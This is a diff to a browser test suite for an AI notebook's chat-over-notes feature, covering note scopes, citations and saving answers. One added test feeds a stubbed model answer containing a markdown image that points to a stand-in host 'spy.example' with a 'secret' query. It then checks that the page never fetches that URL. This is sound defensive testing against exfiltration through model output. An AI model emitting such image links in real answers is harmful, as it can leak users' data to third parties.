@@ -7,7 +7,7 @@ import {
 } from '@ainotebook/testkit';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
-import { launch, word } from './browser.js';
+import { launch, said, word } from './browser.js';
 import { TestServer } from './server.js';
 import { signIn } from './visits.mjs';
 
@@ -109,8 +109,12 @@ describe('asking one’s notes', () => {
           .join(''),
       );
     await expect.poll(marked).toContain('岩骨花香出不来');
-    await page.keyboard.press('Escape');
-    await sheet.waitFor({ state: 'detached' });
+    // And the note itself opens there.
+    await sheet.getByRole('link', { name: word('chat_open_note') }).click();
+    await page.locator('.ProseMirror').getByText('岩骨花香').waitFor();
+    await expect.poll(marked).toContain('岩骨花香出不来');
+    await page.goBack();
+    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
   });
 
   it('goes on where it was after a reload, and ends when one says so', async () => {
@@ -169,6 +173,36 @@ describe('asking one’s notes', () => {
     await answers().first().getByRole('link', { name: '[1]' }).waitFor();
   });
 
+  it('is about the notes that are chosen, and about those again after another scope', async () => {
+    const scope = page.getByRole('button', { name: new RegExp(word('chat_scope')) });
+    const choose = async (name: string) => {
+      await scope.click();
+      await page.getByRole('menuitem', { name, exact: true }).click();
+    };
+    await findable(client, { title: '绿茶', content: '绿茶要八十度。' });
+    await page.getByRole('link', { name: word('nav_chat') }).click();
+    await page.getByText(word('chat_lead')).waitFor();
+    await choose(word('chat_scope_pick'));
+    const dialog = page.getByRole('dialog');
+    await dialog.getByRole('checkbox', { name: '武夷岩茶' }).check();
+    await dialog.getByRole('textbox').fill('绿茶');
+    await dialog.getByRole('checkbox', { name: '武夷岩茶' }).waitFor({ state: 'detached' });
+    await dialog.getByRole('checkbox', { name: '绿茶' }).check();
+    await dialog.getByRole('button', { name: said('chat_pick_take', { count: 2 }) }).click();
+    await scope.getByText(said('chat_scope_articles', { count: 2 })).waitFor();
+    await choose(word('chat_scope_all'));
+    await choose(said('chat_scope_articles', { count: 2 }));
+    say = '八十度 [1]。';
+    await ask(page, '绿茶多少度？');
+    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
+    const [latest] = (await client.conversations.list()).items;
+    const two = [expect.any(String), expect.any(String)];
+    expect(latest?.scope).toEqual({ kind: 'articles', ids: two });
+    await page.getByRole('link', { name: word('nav_chat') }).click();
+    await page.getByRole('link', { name: '水温怎么说？' }).first().click();
+    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
+  });
+
   it('is looked up in the web where that is chosen, and leads to the pages', async () => {
     await page.getByRole('link', { name: word('nav_chat') }).click();
     await page.getByText(word('chat_lead')).waitFor();
@@ -187,7 +221,17 @@ describe('asking one’s notes', () => {
     await answers().first().getByRole('link', { name: '[1]' }).waitFor();
   });
 
-  it('is kept as a note that leads back to what it cites', async () => {
+  it('is kept as a note that leads back to what it cites, and fetches nothing that a model named', async () => {
+    let hasFetched = false;
+    page.on('request', (request) => {
+      hasFetched ||= request.url().includes('spy.example');
+    });
+    say = '沸水 [1]。![偷看](https://spy.example/?q=secret)';
+    await answers()
+      .first()
+      .getByRole('button', { name: word('chat_regenerate') })
+      .click();
+    await answers().first().getByText('偷看').waitFor();
     await answers()
       .first()
       .getByRole('button', { name: word('chat_keep') })
@@ -203,6 +247,9 @@ describe('asking one’s notes', () => {
       return found && (await client.articles.get({ id: found.id })).content;
     };
     await expect.poll(kept, { timeout: 20_000 }).toContain('[^1]: [[武夷岩茶]]');
+    expect(await kept()).toMatch(/^沸水 \[\^1\]。偷看/);
+    await page.locator('.ProseMirror').getByText('偷看').waitFor();
+    expect(hasFetched).toBe(false);
   });
 });
 
